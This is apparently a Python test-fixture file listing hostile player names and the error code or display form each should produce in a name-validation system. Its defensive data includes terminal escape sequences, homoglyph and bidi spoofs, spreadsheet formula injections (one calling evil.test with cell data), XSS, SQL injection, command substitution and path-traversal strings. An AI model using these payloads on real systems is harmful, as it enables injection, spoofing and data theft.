"""Names that somebody might choose to do harm with, or that only look as if: and what becomes of each at the door.

The first to come is always Alice, whom some try to look like.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import NamedTuple

FIRST = "Alice"


class Hostile(NamedTuple):
    """A name, and its fate: the code that it is refused with, or how it is shown."""

    kind: str
    name: str
    code: str | None = None
    shown: str | None = None


# Refused by the rules for names: status REJECTED, E044, and a reason.
REFUSED: dict[str, list[str]] = {
    "colours and cursor (CSI)": [
        *("\x1b[31mred", "\x1b[2J", "\x1b[H\x1b[2Jgone", "up\x1b[1A", "\x1b[8mhidden", "\x1b[1;1Hmove", "\x1b[?25l"),
        *("\x1b[6n", "\x1b[5i", "\x1bc", "\x1b7\x1b8", "a\x1b[1000D", "\x1b[38;2;255;0;0mrgb", "\x1b#8", "\x1b(0lqk"),
    ],
    "titles, links, clipboards (OSC, DCS)": [
        *("\x1b]0;owned\x07", "\x1b]2;owned\x1b\\", "\x1b]8;;http://evil.test\x1b\\go\x1b]8;;\x1b\\", "\x1bP$q\x1b\\"),
        *("\x1b]52;c;cm0gLXJm\x07", "\x1b]1337;File=:AA==\x07", "\x1b_Ga=d\x1b\\", "\x1b^x\x1b\\", "\x1b]50;#1\x07"),
    ],
    "C1 controls": [*(f"C1{chr(code)}31m" for code in range(0x80, 0xA0, 3)), "\x9b2J", "\x9d0;owned\x9c", "\x90q\x9c"],
    "C0 controls": [*(f"C0{chr(code)}" for code in (0, 1, 3, 4, 5, 7, 8, 9, 12, 14, 15, 24, 26, 28, 31, 127))],
    "ids and roles": ["P02", "league_manager", "REF01", "referee:REF01", "player:P01"],
    "line breaks": [
        *(
            "two\nlines",
            "two\rlines",
            "two\r\nlines",
            "two\x0blines",
            "two\x85lines",
            "two\u2028lines",
            "two\u2029lines",
        ),
        *("Bob\n   1  P02     Eve", "\nBob", "Bob\n"),
    ],
    "bidirectional": [
        *(f"Ev{chr(code)}il" for code in (0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069)),
        *("\u200eEvil", "Evil\u200f", "\u061cEvil", "\u202etxt.exe", "user\u2067 \u2069admin"),
    ],
    "no width": [
        *(f"Ali{chr(code)}ce" for code in (0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x00AD, 0x034F, 0x180E, 0x2061)),
        *("\u200b", "\ufeffBob", "Bob\u200b", "\u2064\u2063\u2062", "\u206a\u206f", "\ufff9a\ufffab\ufffb"),
    ],
    "blanks that are none": [
        *(
            "\u2800",
            "Bo\u2800b",
            "\u3164",
            "\uffa0",
            "\u115f\u1160",
            "Bob\u3164",
            "\u1680",
            "\u17b4\u17b5",
            "\U0001d159",
        ),
    ],
    "nothing": [" ", "   ", "\u00a0", "\u3000\u2003\u2009", "\ufe0f", " \ufe0e "],
    "tags and selectors": [
        *("\U000e0001Bob", "\U000e0041\U000e0042", "Bob\U000e007f", "🏴\U000e0067\U000e0062\U000e007f", "Bob\ufe00"),
        *("Bob\ufe0d", "葛\U000e0100", "Bob\U000e01ef", "\u180bBob", "\u180fBob"),
    ],
    "private, unassigned, no characters": [
        *(
            "Bob\ue000",
            "\uf8ff",
            "\U000f0000",
            "\U0010fffd",
            "Bob\ufffe",
            "Bob\uffff",
            "\ufdd0",
            "\U0001ffff",
            "Bob\u0378",
        ),
        "\ufffc",
    ],
    "emoji that are joined": ["👨\u200d👩\u200d👧", "🏳\ufe0f\u200d🌈", "👩🏽\u200d💻", "❤\ufe0f\u200d🔥"],
    "stacks of marks": [
        *("Z" + "\u0335" * 4, "q\u0301\u0302\u0303\u0304", "H\u0489\u0489\u0489\u0489i", "\u0301Bob", "Bob \u0301"),
        *("T̴̢̛̗̈́͝h", "\u20e3", "ก" + "\u0e49" * 20, "x" + "\u0363\u0364\u0365\u0366\u0367", "\u093e"),
    ],
    "alphabets in one word": [
        *("Аlice", "Alicе", "Аdmin", "rооt", "pаypаl", "Βob", "Bοb", "ѕystem", "Gооgle", "ΑΒC", "Тоm", "аӏice2x"),
        *("Ꭺlice", "ꓮlice", "Aliсe", "µBot", "Αлиса", "שlom", "Aٱb", "հello", "ⲀB"),
    ],
    "long when written out": ["ﷺ" * 3, "㋿" * 26, "ﬃ" * 17, "㍿" * 13, "⑴" * 17],
}

# Refused as taken: they look like Alice. JSON-RPC error 2002, E047.
TAKEN: dict[str, list[str]] = {
    "letters that look alike": [
        *(
            "AIice",
            "A1ice",
            "A|ice",
            "ᴀʟɪᴄᴇ",
            "Ａｌｉｃｅ",
            "𝐀𝐥𝐢𝐜𝐞",
            "𝒜𝓁𝒾𝒸ℯ",
            "𝔸𝕝𝕚𝕔𝕖",
            "Ⓐⓛⓘⓒⓔ",
            "🅰🅻🅸🅲🅴",
            "🅐🅛🅘🅒🅔",
            "ꓮꓡꓲꓚꓰ",
        ),
        *("🄰🄻🄸🄲🄴", "🇦🇱🇮🇨🇪", "ᴬˡⁱᶜᵉ", "Ɐlice", "Alıce", "AlicƎ"),
    ],
    "the same but for case, accents and blanks": [
        *(
            "alice",
            "ALICE",
            "aLiCe",
            "Älïçé",
            "Ālĭċę",
            "Ⱥlice",
            "Ạlicẹ",
            "A\u0301lice",
            "Alice\u20dd",
            " Alice ",
            "Alice\u00a0",
        ),
        *("Alice\ufe0f", "A\ufe0elice", "Al̶ice"),
    ],
}

# Malformed: the field has 1 to 50 characters. JSON-RPC error -32602, E044.
MALFORMED: dict[str, list[str]] = {"length": ["", "A" * 51, "🤖" * 51, "\x1b[31m" * 200, "A" * 9_000, "\u0301" * 1_000]}

# Halves of pairs are no JSON: -32700, E040.
NO_JSON: dict[str, list[str]] = {"halves": ["\ud800", "Bob\udc00", "\udc00\ud800", "\ud83d!", "🤖\udfff"]}

# Taken, and shown like this: only text, wherever it is shown.
TEXT: dict[str, list[str]] = {
    "formulas": [
        *(
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(A1)",
            "=cmd|'/C calc'!A0",
            '=HYPERLINK("http://evil.test","x")',
            "=A1",
            "-",
            "@x",
        ),
        *('=IMPORTXML(CONCAT("http://evil.test/",A1),"//a")', "+cmd|' /C calc'!B0", "%0A=1+1", "'=1+1", ";=1", "|=1"),
    ],
    "quotes and separators": [
        *(
            '"',
            '""',
            "'",
            "`",
            'a","b',
            "a;b",
            "a,b",
            '","rank":1,"x":"',
            "\\",
            "\\n",
            "\\u001b[31m",
            "{}",
            "[]",
            "null",
        ),
        *("true", "NaN", "1e999", "0x41", "007", "12345678901234567890"),
    ],
    "HTML and script": [
        *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;", "<!--", "]]>", "<b>bold</b>"),
        *("javascript:alert(1)", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "<svg/onload=alert(1)>", "</title>", "&#x202e;"),
    ],
    "SQL": ["'; DROP TABLE events; --", "' OR 1=1 --", "Robert'); DROP TABLE Students;--", "admin'--", "1; PRAGMA x"],
    "format strings": ["%s%s%s%n", "%(name)s", "{0.__class__}", "{name!r}", "%d", "%%", "${HOME}", "$(reboot)", "`id`"],
    "paths": [
        *("../../etc/passwd", "..", ".", "/etc/passwd", "..\\..\\windows", "C:\\boot.ini", "~root", "a/b", "file:///x"),
        *("%2e%2e%2f", "....//", "standings.json", "//server/share", "-rf *", "--help"),
    ],
    "devices": ["CON", "NUL", "COM1", "LPT1.txt", "aux", "PRN.json", "CLOCK$", "con .", "/dev/null"],
    "other people": ["operator", "System", "Nobody wins"],
    "other scripts": [
        "Ελένη",
        "Алина",
        "שלום",
        "שָׁלוֹם",
        "محمد",
        "李雷",
        "アリス",
        "김철수",
        "आलिस",
        "อลิซ",
        "Bot Алиса",
        "ⴰⵣⵓⵍ",
    ],
    "signs": ["🤖", "👍🏽", "🇩🇪", "♔", "½", "™", "∞", "¿", "€", "�"],
    "as long as may be": ["W" * 50, "🤖" * 50, "李" * 50],
}
NORMALISED: dict[str, dict[str, str]] = {
    "full width and ligatures": {
        "Ｂｏｂ": "Bob",
        "ﬁﬂ": "fifl",
        "＝2+2": "=2+2",
        "＜i＞": "<i>",
        "㎏": "kg",
        "ﷺ": "صلى الله عليه وسلم",
    },
    "forms": {"Zoe\u0308": "Zoë", "\u212b": "Å", "각": "각", "q\u0323\u0307": "q\u0323\u0307"},
    "blanks": {"  Eve  ": "Eve", "Mal\u00a0\u3000lory": "Mal lory", "=\u20093+3": "= 3+3", "\u2003@y": "@y"},
    "presentation": {"❤\ufe0f": "❤", "☠\ufe0e!": "☠!", "1\ufe0f\u20e3": "1\u20e3"},
}
_SHOWN = {"½": "1⁄2", "™": "TM"}


def _all() -> Iterator[Hostile]:
    for code, kinds in (("E044", REFUSED), ("E047", TAKEN), ("-32602 E044", MALFORMED), ("-32700 E040", NO_JSON)):
        yield from (Hostile(kind, name, code) for kind, names in kinds.items() for name in names)
    yield from (Hostile(kind, name, None, _SHOWN.get(name, name)) for kind, names in TEXT.items() for name in names)
    yield from (Hostile(kind, name, None, shown) for kind, names in NORMALISED.items() for name, shown in names.items())


NAMES = tuple(_all())
